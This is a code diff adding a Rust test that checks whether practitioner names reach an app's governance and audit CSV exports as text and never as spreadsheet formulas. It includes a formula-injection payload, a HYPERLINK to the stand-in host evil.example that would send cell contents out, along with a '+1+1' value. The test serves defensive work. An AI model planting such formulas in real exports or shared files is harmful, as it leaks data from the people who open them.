@@ -174,3 +174,62 @@ async fn the_report_files_keep_their_shape() {
         .collect();
     insta::assert_json_snapshot!("governance_shape", shape);
 }
+
+/// A council PSW renames a worker they second to the trust to a formula; the trust's
+/// governance export and audit export carry it as text, never as a formula.
+#[tokio::test]
+async fn names_reach_the_csv_exports_as_text_never_as_formulas() {
+    let t = TestApp::new().await;
+    let council = t.org_id("LA9N1").await;
+    let trust = t.org_id("R9N").await;
+    let seconded = t
+        .scalar_i64(&format!(
+            "SELECT MIN(id) FROM practitioners WHERE employer_org_id = {council}
+             AND host_org_id = {trust} AND end_date IS NULL"
+        ))
+        .await;
+    let payload = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Open\")";
+    sqlx::query("UPDATE practitioners SET given_name = $1, family_name = $2 WHERE id = $3")
+        .bind(payload)
+        .bind("+1+1")
+        .bind(seconded)
+        .execute(&t.db.pool)
+        .await
+        .unwrap();
+    // Nobody has supervision, so everyone (the renamed worker too) is listed as overdue.
+    sqlx::query("DELETE FROM supervision_sessions")
+        .execute(&t.db.pool)
+        .await
+        .unwrap();
+    let psw = t.signed_in(PSW).await;
+    let governance = psw
+        .get(&format!(
+            "/governance.csv?from={}&to={}",
+            today() - time::Duration::days(90),
+            today()
+        ))
+        .await
+        .expect(200);
+    assert!(
+        governance.body.contains("HYPERLINK"),
+        "the name is in the export"
+    );
+    psw.get(&format!("/practitioners/{seconded}"))
+        .await
+        .expect(200);
+    let audit = psw.get("/audit.csv").await.expect(200);
+    for (file, text) in [("governance", &governance.body), ("audit", &audit.body)] {
+        let mut reader = csv::ReaderBuilder::new()
+            .has_headers(false)
+            .from_reader(text.as_bytes());
+        for record in reader.records() {
+            for cell in record.unwrap().iter() {
+                let number = cell.parse::<f64>().is_ok();
+                assert!(
+                    number || !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                    "{file} export has a formula cell: {cell:?}"
+                );
+            }
+        }
+    }
+}
